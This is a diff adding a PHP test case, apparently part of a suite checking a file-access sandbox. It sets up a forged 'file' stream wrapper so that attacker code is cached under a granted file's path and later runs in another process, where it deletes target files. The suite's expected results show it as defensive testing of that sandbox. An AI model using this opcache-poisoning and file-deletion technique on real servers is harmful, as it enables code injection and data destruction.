@@ -1,0 +1,59 @@
+<?php
+/*
+ * Tries: forge, and leave it in the opcode cache: another process finds it there under the granted path
+ * Effect: gone
+ * Class: in scope, known: forged file names
+ * Expect: phase1 open; phase2 open; rewriting open; lsm open
+ * Options: -d zend_extension=opcache -d opcache.enable_cli=1 -d opcache.file_update_protection=0 -d
+ *     opcache.validate_timestamps=0
+ */
+require __DIR__ . '/../lib.php';
+
+function granted(): void
+{
+    require GRANTED;
+    Store::purge(targets());
+}
+
+/* Code that says it is the granted file. */
+class Forge
+{
+    public $context;
+    private int $at = 0;
+    private const CODE = '<?php class Store { static function purge($files) { foreach ($files as $f) { @unlink($f); } } }';
+
+    public function stream_open(string $path, string $mode, int $options, ?string &$opened): bool
+    {
+        $opened = GRANTED;
+        return true;
+    }
+
+    public function stream_read(int $n): string
+    {
+        $read = substr(self::CODE, $this->at, $n);
+        $this->at += strlen($read);
+        return $read;
+    }
+
+    public function stream_eof(): bool { return $this->at >= strlen(self::CODE); }
+    public function stream_stat(): array { return []; }
+    public function url_stat(): array { return []; }
+    public function stream_set_option(): bool { return false; }
+    public function stream_close(): void {}
+}
+
+function attack(): void
+{
+    if (!($child = pcntl_fork())) {
+        stream_wrapper_unregister('file');
+        stream_wrapper_register('file', Forge::class);
+        opcache_invalidate(GRANTED, true);
+        include GRANTED;
+        exit;
+    }
+    pcntl_waitpid($child, $status);
+    include GRANTED;
+    Store::purge(targets());
+}
+
+attempt('granted', 'attack', dry: true);
